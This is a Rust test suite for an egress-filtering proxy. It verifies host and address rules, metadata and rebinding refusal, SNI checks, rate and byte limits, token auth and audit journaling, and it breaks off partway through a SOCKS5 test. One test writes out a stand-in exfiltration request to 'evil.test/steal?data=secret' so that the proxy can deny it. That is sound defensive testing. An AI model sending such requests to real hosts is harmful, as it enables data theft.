//! End-to-end tests of the egress proxy on loopback only: local origins,
//! a local TLS origin with an rcgen certificate, and a static resolver that
//! maps test names to 127.0.0.1 (no real DNS, no other address).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "tests"
)]

mod common;

use std::net::IpAddr;
use std::time::{Duration, Instant};

use common::*;
use palisade_egress::addr::AddressPolicy;
use palisade_egress::proxy::{Limits, ProxyConfig, ProxyToken};
use palisade_egress::record::{CloseReason, Outcome, ProxyKind};
use palisade_egress::resolve::StaticResolver;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

fn lo() -> IpAddr {
    "127.0.0.1".parse().unwrap()
}

fn loopback_allowed() -> AddressPolicy {
    AddressPolicy::new(vec!["127.0.0.0/8".parse().unwrap()])
}

fn cfg() -> ProxyConfig {
    {
        let mut built = ProxyConfig::default();
        built.addresses = loopback_allowed();
        built
    }
}

#[tokio::test]
async fn allowed_connect_carries_tls_end_to_end_and_is_recorded() {
    let (origin, cert) = tls_origin("origin.test").await;
    let config = {
        let mut built = cfg();
        built.sni_ports = vec![origin.port()];
        built
    };
    let p = TestProxy::start(
        config,
        &["origin.test"],
        &[] as &[&str],
        StaticResolver::new().with("origin.test", &[lo()]),
    )
    .await;
    let auth = format!("origin.test:{}", origin.port());
    let (s, head) = connect_tunnel(p.addr, &auth, "").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let mut tls = tls_connector(&cert)
        .connect(server_name("origin.test"), s)
        .await
        .unwrap();
    tls.write_all(b"ping").await.unwrap();
    let got = read_to_end(&mut tls).await;
    assert_eq!(got, b"pong");
    drop(tls);
    let r = p.last_record(1).await;
    assert_eq!(r.kind, ProxyKind::Connect);
    assert_eq!(r.outcome, Outcome::Allowed);
    assert_eq!(r.host.as_deref(), Some("origin.test"));
    assert_eq!(r.port, Some(origin.port()));
    assert_eq!(r.resolved, Some(origin));
    assert_eq!(r.sni.as_deref(), Some("origin.test"));
    assert_eq!(r.rule.as_deref(), Some("egress.allow[0]"));
    assert!(r.bytes_up > 100 && r.bytes_down > 100, "{r:?}");
    assert_eq!(r.close, CloseReason::Completed);
}

#[tokio::test]
async fn denied_name_is_refused_before_any_dns_lookup() {
    let origin = echo_origin().await;
    let res = StaticResolver::new()
        .with("denied.test", &[lo()])
        .with("allowed.test", &[lo()]);
    let p = TestProxy::start(cfg(), &["allowed.test"], &[] as &[&str], res).await;
    let (_s, head) = connect_tunnel(p.addr, &format!("denied.test:{}", origin.port()), "").await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(
        head.contains("X-Palisade-Error: host_not_allowed"),
        "{head}"
    );
    assert_eq!(
        p.resolver.lookups(),
        0,
        "a denied name must never be resolved"
    );
    let r = p.last_record(1).await;
    assert_eq!(
        (r.outcome, r.reason.as_str()),
        (Outcome::Denied, "host_not_allowed")
    );
    // positive control: the allowed name is resolved once and tunnels
    let (mut s, head) =
        connect_tunnel(p.addr, &format!("allowed.test:{}", origin.port()), "").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(tunnel_works(&mut s).await);
    assert_eq!(p.resolver.lookups(), 1);
}

#[tokio::test]
async fn names_resolving_to_denied_addresses_are_refused_unless_allowed() {
    let origin = echo_origin().await;
    let cases: [(&str, IpAddr, &str); 3] = [
        ("loop.lab.test", lo(), "address_not_allowed:loopback"),
        (
            "meta.lab.test",
            "169.254.169.254".parse().unwrap(),
            "address_not_allowed:cloud_metadata",
        ),
        (
            "mapped.lab.test",
            "::ffff:127.0.0.1".parse().unwrap(),
            "address_not_allowed:loopback",
        ),
    ];
    let mut res = StaticResolver::new();
    for (n, ip, _) in &cases {
        res = res.with(n, &[*ip]);
    }
    // also: one public and one loopback answer (rebinding) is refused as a whole
    res = res.with("mixed.lab.test", &["8.8.8.8".parse().unwrap(), lo()]);
    let p = TestProxy::start(ProxyConfig::default(), &["*.lab.test"], &[] as &[&str], res).await;
    for (i, (name, _, reason)) in cases.iter().enumerate() {
        let (_s, head) = connect_tunnel(p.addr, &format!("{name}:{}", origin.port()), "").await;
        assert!(head.starts_with("HTTP/1.1 403"), "{name}: {head}");
        assert!(
            !head.contains("127.0.0.1") && !head.contains("169.254"),
            "no address in refusal: {head}"
        );
        let r = p.last_record(i + 1).await;
        assert_eq!(r.reason, *reason, "{name}");
        assert_eq!(r.resolved, None, "{name}: nothing dialled");
    }
    let (_s, head) = connect_tunnel(p.addr, &format!("mixed.lab.test:{}", origin.port()), "").await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");

    // positive control: the same names pass when the ranges are allowed
    // (the metadata address is checked, never dialled: only loopback is contacted)
    let allow = AddressPolicy::new(vec![
        "127.0.0.0/8".parse().unwrap(),
        "::ffff:127.0.0.0/104".parse().unwrap(),
    ]);
    let config = {
        let mut built = ProxyConfig::default();
        built.addresses = allow;
        built
    };
    let res = StaticResolver::new()
        .with("loop.lab.test", &[lo()])
        .with("mapped.lab.test", &["::ffff:127.0.0.1".parse().unwrap()]);
    let p2 = TestProxy::start(config, &["*.lab.test"], &[] as &[&str], res).await;
    for name in ["loop.lab.test", "mapped.lab.test"] {
        let (mut s, head) = connect_tunnel(p2.addr, &format!("{name}:{}", origin.port()), "").await;
        assert!(head.starts_with("HTTP/1.1 200"), "{name}: {head}");
        assert!(tunnel_works(&mut s).await, "{name}");
    }
    let meta = AddressPolicy::new(vec!["169.254.169.254/32".parse().unwrap()]);
    assert_eq!(meta.check("169.254.169.254".parse().unwrap()), Ok(()));
}

#[tokio::test]
async fn ip_literal_targets_follow_the_address_rules() {
    let origin = echo_origin().await;
    let allow = ["127.0.0.1", "[::1]"];
    let p = TestProxy::start(
        ProxyConfig::default(),
        &allow,
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    for auth in [
        format!("127.0.0.1:{}", origin.port()),
        format!("[::1]:{}", origin.port()),
    ] {
        let (_s, head) = connect_tunnel(p.addr, &auth, "").await;
        assert!(head.starts_with("HTTP/1.1 403"), "{auth}: {head}");
    }
    assert_eq!(p.records(2).await[0].reason, "address_not_allowed:loopback");
    assert_eq!(p.resolver.lookups(), 0);
    // positive control (IPv4 and bracketed IPv6 literals)
    let both = {
        let mut built = ProxyConfig::default();
        built.addresses = AddressPolicy::new(vec![
            "127.0.0.0/8".parse().unwrap(),
            "::1/128".parse().unwrap(),
        ]);
        built
    };
    let p2 = TestProxy::start(both, &allow, &[] as &[&str], StaticResolver::new()).await;
    let (mut s, head) = connect_tunnel(p2.addr, &format!("127.0.0.1:{}", origin.port()), "").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(tunnel_works(&mut s).await);
    let v6 = tokio::net::TcpListener::bind("[::1]:0").await;
    if let Ok(l) = v6 {
        let port = l.local_addr().unwrap().port();
        tokio::spawn(async move {
            let (mut c, _) = l.accept().await.unwrap();
            let (mut r, mut w) = c.split();
            let _ = tokio::io::copy(&mut r, &mut w).await;
        });
        let (mut s, head) = connect_tunnel(p2.addr, &format!("[::1]:{port}"), "").await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        assert!(tunnel_works(&mut s).await);
    }
}

#[tokio::test]
async fn plain_http_body_over_the_byte_budget_gets_413() {
    let origin = http_origin().await;
    let config = {
        let mut built = cfg();
        built.limits = {
            let mut built = Limits::default();
            built.bytes_per_connection = Some(1000);
            built
        };
        built
    };
    let p = TestProxy::start(
        config,
        &["127.0.0.1"],
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    let port = origin.port();
    let big = format!(
        "POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 5000\r\n\r\n"
    );
    let resp = raw_exchange(p.addr, big.as_bytes()).await;
    assert_eq!(status_of(&resp), 413, "{resp}");
    assert_eq!(p.last_record(1).await.close, CloseReason::LimitExceeded);
    // positive control: a small body is forwarded
    let small = format!(
        "POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 2\r\n\r\nhi"
    );
    let resp = raw_exchange(p.addr, small.as_bytes()).await;
    assert_eq!(status_of(&resp), 200, "{resp}");
}

#[tokio::test]
async fn plain_http_is_filtered_by_the_same_rules() {
    let origin = http_origin().await;
    let res = StaticResolver::new()
        .with("web.test", &[lo()])
        .with("evil.test", &[lo()]);
    let p = TestProxy::start(cfg(), &["web.test"], &[] as &[&str], res).await;
    let port = origin.port();
    let denied = format!(
        "GET http://evil.test:{port}/steal?data=secret HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n"
    );
    let resp = raw_exchange(p.addr, denied.as_bytes()).await;
    assert_eq!(status_of(&resp), 403, "{resp}");
    assert_eq!(p.resolver.lookups(), 0);
    let r = p.last_record(1).await;
    assert_eq!(
        (r.kind, r.reason.as_str()),
        (ProxyKind::Http, "host_not_allowed")
    );
    // positive control: allowed host is forwarded in origin-form, Host regenerated,
    // proxy credentials stripped
    let ok = format!(
        "GET http://web.test:{port}/a/b?c=d HTTP/1.1\r\nHost: web.test:{port}\r\nProxy-Authorization: Basic eDp5\r\nX-Keep: 1\r\n\r\n"
    );
    let resp = raw_exchange(p.addr, ok.as_bytes()).await;
    assert_eq!(status_of(&resp), 200, "{resp}");
    let body = resp.split("\r\n\r\n").nth(1).unwrap();
    assert!(body.starts_with("GET /a/b?c=d HTTP/1.1\r\n"), "{body}");
    assert!(
        body.contains(&format!("Host: web.test:{port}\r\n")),
        "{body}"
    );
    assert!(body.contains("X-Keep: 1\r\n"), "{body}");
    assert!(
        !body.to_ascii_lowercase().contains("proxy-authorization"),
        "{body}"
    );
    let r = p.last_record(2).await;
    assert_eq!((r.kind, r.outcome), (ProxyKind::Http, Outcome::Allowed));
    assert_eq!(r.resolved, Some(origin));
}

async fn tls_through(
    p: &TestProxy,
    origin: std::net::SocketAddr,
    cert: &rustls::pki_types::CertificateDer<'static>,
    sni: rustls::pki_types::ServerName<'static>,
) -> bool {
    let (s, head) = connect_tunnel(p.addr, &format!("origin.test:{}", origin.port()), "").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let Ok(Ok(mut tls)) =
        tokio::time::timeout(Duration::from_secs(5), tls_connector(cert).connect(sni, s)).await
    else {
        return false;
    };
    let _ = tls.write_all(b"ping").await;
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), tls.read_to_end(&mut out)).await;
    out == b"pong"
}

#[tokio::test]
async fn sni_mismatch_missing_sni_and_non_tls_are_refused() {
    let (origin, cert) = tls_origin("origin.test").await;
    let config = {
        let mut built = cfg();
        built.sni_ports = vec![origin.port()];
        built
    };
    let p = TestProxy::start(
        config,
        &["origin.test"],
        &[] as &[&str],
        StaticResolver::new().with("origin.test", &[lo()]),
    )
    .await;
    // fronting attempt: CONNECT names origin.test, ClientHello names other.test
    assert!(!tls_through(&p, origin, &cert, server_name("other.test")).await);
    let r = p.last_record(1).await;
    assert_eq!(
        (r.outcome, r.reason.as_str()),
        (Outcome::Denied, "sni_mismatch")
    );
    assert_eq!(r.sni.as_deref(), Some("other.test"));
    assert_eq!(r.bytes_up, 0, "nothing reached the upstream");
    // no SNI at all (rustls sends none for an IP server name)
    assert!(
        !tls_through(
            &p,
            origin,
            &cert,
            rustls::pki_types::ServerName::IpAddress(lo().into())
        )
        .await
    );
    assert_eq!(p.last_record(2).await.reason, "sni_missing");
    // not TLS
    let (mut s, _) = connect_tunnel(p.addr, &format!("origin.test:{}", origin.port()), "").await;
    s.write_all(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
        .await
        .unwrap();
    let _ = read_to_end(&mut s).await;
    assert_eq!(p.last_record(3).await.reason, "not_tls");
    // positive control: matching SNI passes
    assert!(tls_through(&p, origin, &cert, server_name("origin.test")).await);
    assert_eq!(p.last_record(4).await.outcome, Outcome::Allowed);
}

#[tokio::test]
async fn a_byte_limit_cuts_the_tunnel_and_records_limit_exceeded() {
    let big = firehose_origin(1 << 20).await;
    let small = firehose_origin(500).await;
    let config = {
        let mut built = cfg();
        built.limits = {
            let mut built = Limits::default();
            built.bytes_per_connection = Some(10_000);
            built
        };
        built
    };
    let p = TestProxy::start(
        config,
        &["127.0.0.1"],
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    let (mut s, head) = connect_tunnel(p.addr, &format!("127.0.0.1:{}", big.port()), "").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let got = read_to_end(&mut s).await;
    assert_eq!(
        got.len(),
        10_000,
        "exactly the budget passes, then the tunnel is cut"
    );
    let r = p.last_record(1).await;
    assert_eq!(r.close, CloseReason::LimitExceeded);
    assert_eq!(r.bytes_down, 10_000);
    // positive control: a transfer under the limit completes
    let (mut s, _) = connect_tunnel(p.addr, &format!("127.0.0.1:{}", small.port()), "").await;
    assert_eq!(read_to_end(&mut s).await.len(), 500);
    drop(s);
    let r = p.last_record(2).await;
    assert_eq!(r.close, CloseReason::Completed);
}

#[tokio::test]
async fn the_session_byte_limit_spans_connections() {
    let origin = firehose_origin(600).await;
    let config = {
        let mut built = cfg();
        built.limits = {
            let mut built = Limits::default();
            built.bytes_per_session = Some(1_000);
            built
        };
        built
    };
    let p = TestProxy::start(
        config,
        &["127.0.0.1"],
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    let auth = format!("127.0.0.1:{}", origin.port());
    let (mut s, _) = connect_tunnel(p.addr, &auth, "").await;
    assert_eq!(
        read_to_end(&mut s).await.len(),
        600,
        "first connection within budget"
    );
    drop(s);
    let (mut s, _) = connect_tunnel(p.addr, &auth, "").await;
    assert_eq!(
        read_to_end(&mut s).await.len(),
        400,
        "second is cut at the session budget"
    );
    let recs = p.records(2).await;
    assert_eq!(recs[0].close, CloseReason::Completed);
    assert_eq!(recs[1].close, CloseReason::LimitExceeded);
    assert_eq!(p.proxy.session_bytes(), 1_000);
}

#[tokio::test]
async fn the_concurrency_limit_holds() {
    let origin = echo_origin().await;
    let config = {
        let mut built = cfg();
        built.limits = {
            let mut built = Limits::default();
            built.max_connections = 2;
            built
        };
        built
    };
    let p = TestProxy::start(
        config,
        &["127.0.0.1"],
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    let auth = format!("127.0.0.1:{}", origin.port());
    let (mut a, h1) = connect_tunnel(p.addr, &auth, "").await;
    let (mut b, h2) = connect_tunnel(p.addr, &auth, "").await;
    assert!(h1.starts_with("HTTP/1.1 200") && h2.starts_with("HTTP/1.1 200"));
    assert!(tunnel_works(&mut a).await && tunnel_works(&mut b).await);
    let (_c, h3) = connect_tunnel(p.addr, &auth, "").await;
    assert!(h3.starts_with("HTTP/1.1 503"), "{h3}");
    let r = p.last_record(1).await;
    assert_eq!(r.reason, "concurrency_limit");
    // positive control: after one closes, a new tunnel works
    drop(a);
    p.records(2).await;
    let (mut d, h4) = connect_tunnel(p.addr, &auth, "").await;
    assert!(h4.starts_with("HTTP/1.1 200"), "{h4}");
    assert!(tunnel_works(&mut d).await);
}

#[tokio::test]
async fn new_connections_per_minute_are_limited() {
    let origin = echo_origin().await;
    let config = {
        let mut built = cfg();
        built.limits = {
            let mut built = Limits::default();
            built.per_minute = Some(2);
            built
        };
        built
    };
    let p = TestProxy::start(
        config,
        &["127.0.0.1"],
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    let auth = format!("127.0.0.1:{}", origin.port());
    for _ in 0..2 {
        let (mut s, h) = connect_tunnel(p.addr, &auth, "").await;
        assert!(h.starts_with("HTTP/1.1 200"), "{h}");
        assert!(tunnel_works(&mut s).await);
    }
    let (_s, h) = connect_tunnel(p.addr, &auth, "").await;
    assert!(
        h.starts_with("HTTP/1.1 429") && h.contains("Retry-After"),
        "{h}"
    );
}

#[tokio::test]
async fn slowloris_head_times_out() {
    let origin = echo_origin().await;
    let config = {
        let mut built = cfg();
        built.limits = {
            let mut built = Limits::default();
            built.header_timeout = Duration::from_secs(1);
            built
        };
        built
    };
    let p = TestProxy::start(
        config,
        &["127.0.0.1"],
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    let mut s = TcpStream::connect(p.addr).await.unwrap();
    let t0 = Instant::now();
    let drip = async {
        for b in format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\nX-Slow: ", origin.port()).bytes() {
            if s.write_all(&[b]).await.is_err() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    let _ = tokio::time::timeout(Duration::from_secs(3), drip).await;
    let resp = String::from_utf8_lossy(&read_to_end(&mut s).await).into_owned();
    assert_eq!(status_of(&resp), 408, "{resp}");
    assert!(t0.elapsed() < Duration::from_secs(3));
    assert_eq!(p.last_record(1).await.reason, "header_timeout");
    // positive control: a prompt head is served
    let (mut s, h) = connect_tunnel(p.addr, &format!("127.0.0.1:{}", origin.port()), "").await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await);
}

#[tokio::test]
async fn idle_tunnels_are_closed() {
    let origin = echo_origin().await;
    let config = {
        let mut built = cfg();
        built.limits = {
            let mut built = Limits::default();
            built.idle_timeout = Duration::from_secs(1);
            built
        };
        built
    };
    let p = TestProxy::start(
        config,
        &["127.0.0.1"],
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    let (mut s, _) = connect_tunnel(p.addr, &format!("127.0.0.1:{}", origin.port()), "").await;
    assert!(
        tunnel_works(&mut s).await,
        "positive control: the tunnel carries bytes"
    );
    let _ = read_to_end(&mut s).await;
    assert_eq!(p.last_record(1).await.close, CloseReason::IdleTimeout);
}

#[tokio::test]
async fn proxy_authorization_token_is_required() {
    let origin = echo_origin().await;
    let token = ProxyToken::generate().unwrap();
    let config = {
        let mut built = cfg();
        built.token = Some(token.clone());
        built
    };
    let p = TestProxy::start(
        config,
        &["127.0.0.1"],
        &[] as &[&str],
        StaticResolver::new(),
    )
    .await;
    let auth = format!("127.0.0.1:{}", origin.port());
    let (_s, h) = connect_tunnel(p.addr, &auth, "").await;
    assert!(
        h.starts_with("HTTP/1.1 407") && h.contains("Proxy-Authenticate"),
        "{h}"
    );
    let (_s, h) = connect_tunnel(p.addr, &auth, "Proxy-Authorization: Bearer wrong\r\n").await;
    assert!(h.starts_with("HTTP/1.1 407"), "{h}");
    assert_eq!(p.last_record(2).await.reason, "proxy_auth_required");
    // positive control
    let hdr = format!("Proxy-Authorization: Bearer {}\r\n", token.expose());
    let (mut s, h) = connect_tunnel(p.addr, &auth, &hdr).await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await);
}

#[tokio::test]
async fn unix_socket_listener_serves_the_same_proxy() {
    use palisade_egress::decide::HostRules;
    use palisade_egress::proxy::{Listener, Proxy, shutdown_channel};
    use palisade_egress::record::MemoryRecorder;
    use std::sync::Arc;
    let origin = echo_origin().await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("proxy.sock");
    let listener = tokio::net::UnixListener::bind(&path).unwrap();
    let rec = Arc::new(MemoryRecorder::new());
    let proxy = Proxy::new(
        cfg(),
        Arc::new(HostRules::new(&["127.0.0.1"], &[] as &[&str]).unwrap()),
        Arc::new(StaticResolver::new()),
        rec.clone(),
    );
    let (shutdown, signal) = shutdown_channel();
    let task = tokio::spawn(async move { proxy.serve(Listener::Unix(listener), signal).await });
    let mut s = tokio::net::UnixStream::connect(&path).await.unwrap();
    let auth = format!("127.0.0.1:{}", origin.port());
    s.write_all(format!("CONNECT {auth} HTTP/1.1\r\nHost: {auth}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let h = read_head(&mut s).await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await);
    // shutdown cuts the open tunnel and records it
    shutdown.trigger();
    tokio::time::timeout(Duration::from_secs(5), task)
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    let recs = rec.connections();
    assert_eq!(recs.len(), 1);
    assert_eq!(recs[0].peer, "unix");
    assert_eq!(recs[0].close, CloseReason::Shutdown);
}

#[tokio::test]
async fn half_closed_client_still_gets_the_answer() {
    let origin = http_origin().await;
    let p = TestProxy::start(cfg(), &["127.0.0.1"], &[] as &[&str], StaticResolver::new()).await;
    let auth = format!("127.0.0.1:{}", origin.port());
    let (mut s, _) = connect_tunnel(p.addr, &auth, "").await;
    s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    s.shutdown().await.unwrap();
    let got = String::from_utf8_lossy(&read_to_end(&mut s).await).into_owned();
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
}

#[derive(Debug)]
struct Broken(std::sync::atomic::AtomicBool);

impl palisade_egress::record::Recorder for Broken {
    fn record(&self, _event: &palisade_egress::record::ProxyEvent) {}
    fn healthy(&self) -> bool {
        !self.0.load(std::sync::atomic::Ordering::SeqCst)
    }
}

#[tokio::test]
async fn a_recorder_that_cannot_write_stops_new_connections() {
    use palisade_egress::decide::HostRules;
    use palisade_egress::proxy::{Listener, Proxy, shutdown_channel};
    use std::sync::Arc;
    let origin = echo_origin().await;
    let broken = Arc::new(Broken(std::sync::atomic::AtomicBool::new(false)));
    let proxy = Proxy::new(
        cfg(),
        Arc::new(HostRules::new(&["127.0.0.1"], &[] as &[&str]).unwrap()),
        Arc::new(StaticResolver::new()),
        broken.clone(),
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let (_shutdown, signal) = shutdown_channel();
    tokio::spawn(async move { proxy.serve(Listener::Tcp(l), signal).await });
    let auth = format!("127.0.0.1:{}", origin.port());
    // positive control: healthy recorder, tunnel works
    let (mut s, h) = connect_tunnel(addr, &auth, "").await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await);
    broken.0.store(true, std::sync::atomic::Ordering::SeqCst);
    let (_s, h) = connect_tunnel(addr, &auth, "").await;
    assert!(
        h.starts_with("HTTP/1.1 503") && h.contains("recording_unavailable"),
        "{h}"
    );
}

#[tokio::test]
async fn records_reach_a_sealed_journal_that_verifies() {
    use palisade_egress::decide::HostRules;
    use palisade_egress::journal::JournalRecorder;
    use palisade_egress::proxy::{Listener, Proxy, shutdown_channel};
    use palisade_evidence::{
        JournalKey, JournalState, JournalWriter, Timestamp, WriterOptions, verify,
    };
    use std::sync::Arc;
    let origin = echo_origin().await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("egress.jsonl");
    let key = JournalKey::generate().unwrap();
    let writer = JournalWriter::create(
        &path,
        &key,
        &WriterOptions::default(),
        Timestamp(
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_millis() as u64,
        ),
    )
    .unwrap();
    let (rec, thread) = JournalRecorder::start(writer, "session-1".into());
    let proxy = Proxy::new(
        cfg(),
        Arc::new(HostRules::new(&["127.0.0.1"], &[] as &[&str]).unwrap()),
        Arc::new(StaticResolver::new()),
        rec.clone(),
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let (shutdown, signal) = shutdown_channel();
    let task = tokio::spawn(async move { proxy.serve(Listener::Tcp(l), signal).await });
    let (mut s, h) = connect_tunnel(addr, &format!("127.0.0.1:{}", origin.port()), "").await;
    assert!(h.starts_with("HTTP/1.1 200"));
    assert!(tunnel_works(&mut s).await);
    drop(s);
    let (_s, h) = connect_tunnel(addr, "denied.test:443", "").await;
    assert!(h.starts_with("HTTP/1.1 403"));
    drop(_s);
    tokio::time::sleep(Duration::from_millis(100)).await;
    shutdown.trigger();
    task.await.unwrap().unwrap();
    let anchor = thread.finish(&rec).unwrap();
    let bytes = std::fs::read(&path).unwrap();
    let report = verify(&bytes, &key, Some(&anchor));
    assert_eq!(report.state(), JournalState::Closed, "{report:?}");
    let text = String::from_utf8(bytes).unwrap();
    assert_eq!(text.matches("egress_connection").count(), 2, "{text}");
    assert!(
        text.contains("host_not_allowed") && text.contains("\"bytes_up\""),
        "{text}"
    );
    assert!(!text.contains("ping"), "no payload bytes in records");
}

#[tokio::test]
async fn the_proxy_never_connects_to_itself() {
    let origin = echo_origin().await;
    let p = TestProxy::start(cfg(), &["127.0.0.1"], &[] as &[&str], StaticResolver::new()).await;
    let (_s, h) = connect_tunnel(p.addr, &format!("127.0.0.1:{}", p.addr.port()), "").await;
    assert!(
        h.starts_with("HTTP/1.1 403") && h.contains("proxy_loop"),
        "{h}"
    );
    // positive control: another loopback port on the same policy works
    let (mut s, h) = connect_tunnel(p.addr, &format!("127.0.0.1:{}", origin.port()), "").await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await);
}

#[tokio::test]
async fn a_non_relay_connection_taints_the_session_and_narrows_later_connections() {
    use palisade_egress::policy::PolicyDecider;
    use palisade_egress::proxy::{Listener, Proxy, shutdown_channel};
    use palisade_egress::record::MemoryRecorder;
    use std::sync::{Arc, Mutex};
    let origin = echo_origin().await;
    let toml = "[egress]\nallow = [\"*.lab.test\"]\nallow_addresses = [\"127.0.0.0/8\"]\n[taint]\nsources = [\"proxy_non_relay\"]\negress_allow = [\"safe.lab.test\"]\n";
    let (policy, _) = palisade_schema::host_policy::parse("palisade.toml", toml)
        .unwrap()
        .into_parts();
    let rules = palisade_taint::Rules::new(&policy, &[]).unwrap();
    let session = Arc::new(Mutex::new(palisade_taint::Session::new()));
    let decider = PolicyDecider::new(Arc::new(policy), Arc::new(rules), session.clone());
    let res = StaticResolver::new()
        .with("first.lab.test", &[lo()])
        .with("second.lab.test", &[lo()])
        .with("safe.lab.test", &[lo()]);
    let rec = Arc::new(MemoryRecorder::new());
    let proxy = Proxy::new(
        {
            let mut built = ProxyConfig::default();
            built.addresses = loopback_allowed();
            built
        },
        Arc::new(decider),
        Arc::new(res),
        rec.clone(),
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let (_shutdown, signal) = shutdown_channel();
    tokio::spawn(async move { proxy.serve(Listener::Tcp(l), signal).await });
    let port = origin.port();
    // positive control: a clean session reaches any allowed host
    let (mut s, h) = connect_tunnel(addr, &format!("first.lab.test:{port}"), "").await;
    assert!(h.starts_with("HTTP/1.1 200"), "{h}");
    assert!(tunnel_works(&mut s).await);
    assert!(
        session.lock().unwrap().is_tainted(),
        "a non-relay proxy connection taints"
    );
    // tainted: a new host outside taint.egress_allow is refused
    let (_s, h) = connect_tunnel(addr, &format!("second.lab.test:{port}"), "").await;
    assert!(
        h.starts_with("HTTP/1.1 403") && h.contains("tainted_session"),
        "{h}"
    );
    // still allowed: the host already contacted, and taint.egress_allow
    for host in ["first.lab.test", "safe.lab.test"] {
        let (mut s, h) = connect_tunnel(addr, &format!("{host}:{port}"), "").await;
        assert!(h.starts_with("HTTP/1.1 200"), "{host}: {h}");
        assert!(tunnel_works(&mut s).await);
    }
}

async fn socks_connect(
    proxy: std::net::SocketAddr,
    auth: Option<&str>,
    target: &[u8],
) -> (TcpStream, Vec<u8>) {
    let mut s = TcpStream::connect(proxy).await.unwrap();
    let method = if auth.is_some() { 2 } else { 0 };
    s.write_all(&[5, 1, method]).await.unwrap();
    let mut r = [0u8; 2];
    if s.read_exact(&mut r).await.is_err() || r[1] == 0xff {
        return (s, r.to_vec());
    }
    if let Some(token) = auth {
        let mut m = vec![1, 6];
        m.extend_from_slice(b"worker");
        m.push(token.len() as u8);
        m.extend_from_slice(token.as_bytes());
        s.write_all(&m).await.unwrap();
        s.read_exact(&mut r).await.unwrap();
        if r[1] != 0 {
            return (s, r.to_vec());
        }
    }
    let mut req = vec![5, 1, 0];
    req.extend_from_slice(target);
    s.write_all(&req).await.unwrap();
    let mut reply = [0u8; 10];
    match tokio::time::timeout(Duration::from_secs(5), s.read_exact(&mut reply)).await {
        Ok(Ok(_)) => (s, reply.to_vec()),
        _ => (s, Vec::new()),
    }
}

fn socks_domain(name: &str, port: u16) -> Vec<u8> {
    let mut t = vec![3, name.len() as u8];
    t.extend_from_slice(name.as_bytes());
    t.extend_from_slice(&port.to_be_bytes());
    t
}

#[tokio::test]
async fn socks5_with_domain_names_uses_the_same_rules_and_token() {
    let origin = echo_origin().await;
    let token = ProxyToken::generate().unwrap();
    let config = {
        let mut built = cfg();
        built.token = Some(token.clone());
        built
    };
    let res = StaticResolver::new()
        .with("web.test", &[lo()])
        .with("evil.test", &[lo()]);
    let p = TestProxy::start(config, &["web.test"], &[] as &[&str], res).await;
    let port = origin.port();
    // positive control: token as the RFC 1929 password, domain target
    let (mut s, reply) = socks_connect(
        p.addr,
        Some(token.expose()),
        &socks_domain("web.test", port),
    )
    .await;
    assert_eq!(reply.get(..2), Some(&[5u8, 0][..]), "{reply:?}");
    assert!(tunnel_works(&mut s).await);
    drop(s);
    let r = p.last_record(1).await;
    assert_eq!(
        (r.kind, r.outcome, r.host.as_deref()),
        (ProxyKind::Socks5, Outcome::Allowed, Some("web.test"))
    );
    // a denied name: ruleset refusal (0x02), never resolved
    let (_s, reply) = socks_connect(
        p.addr,
        Some(token.expose()),
        &socks_domain("evil.test", port),
    )
    .await;
    assert_eq!(reply.get(..2), Some(&[5u8, 2][..]), "{reply:?}");
    assert_eq!(
        p.resolver.lookups(),
        1,
        "only the allowed name was resolved"
    );
    assert_eq!(p.last_record(2).await.reason, "host_not_allowed");
    // wrong token, and no-auth offered while a token is required
    let (_s, reply) = socks_connect(p.addr, Some("wrong"), &socks_domain("web.test", port)).await;
    assert_eq!(reply, vec![1, 1]);
    let (_s, reply) = socks_connect(p.addr, None, &socks_domain("web.test", port)).await;
